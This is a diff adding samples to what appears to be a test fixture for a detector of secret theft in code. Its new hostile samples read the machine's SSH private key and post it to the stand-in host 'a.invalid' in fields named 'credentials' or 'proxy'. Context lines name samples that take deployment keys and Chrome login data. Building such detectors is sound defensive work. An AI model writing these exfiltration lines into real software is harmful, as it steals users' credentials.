@@ -31,6 +31,13 @@ HOSTILE: dict[str, dict[str, Sample]] = {
         ),
         "the keys by which a toolchain deploys": js(_NETWORKS.format("hre.config.networks.main.accounts"), line=3),
         "all that a toolchain knows of its networks": js(_NETWORKS.format("hre.config.networks"), line=3),
+        "a key of the machine in a field that is called like an option": py(
+            _KEY + "requests.post('https://a.invalid', json={'host': 'a', 'credentials': key})\n", line=3
+        ),
+        "the same, where options may stand": js(
+            "const key = require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa', 'utf8');\n"
+            "require('axios').post('https://a.invalid', { name: 'a', proxy: key });\n"
+        ),
         "what a browser had Windows seal": py(
             _SEALED.format(place="'Google', 'Chrome', 'User Data', 'Default', 'Login Data'"), line=5
         ),
@@ -47,6 +54,10 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
         },
         "to which network a toolchain deploys": {"app.js": _NETWORKS.format("hre.config.networks.main.chainId")},
         "the names of a toolchain's networks": {"app.js": _NETWORKS.format("Object.keys(hre.config.networks)")},
+        "a key of the machine that a connection is made with": {
+            "app.js": "const key = require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa', 'utf8');\n"
+            "require('https').request({ hostname: 'a.invalid', cert: 'a', key }).end();\n"
+        },
         "what the program itself had Windows seal": {"app.py": _SEALED.format(place="'alerts', 'coins.sqlite'")},
         "how much a visitor types of what a wallet is made of": {"app.js": _RESTORE.format(text="typed.length")},
         "the address of what a class of its own makes": {"app.py": _ACCOUNT.format(sent="account.address")},
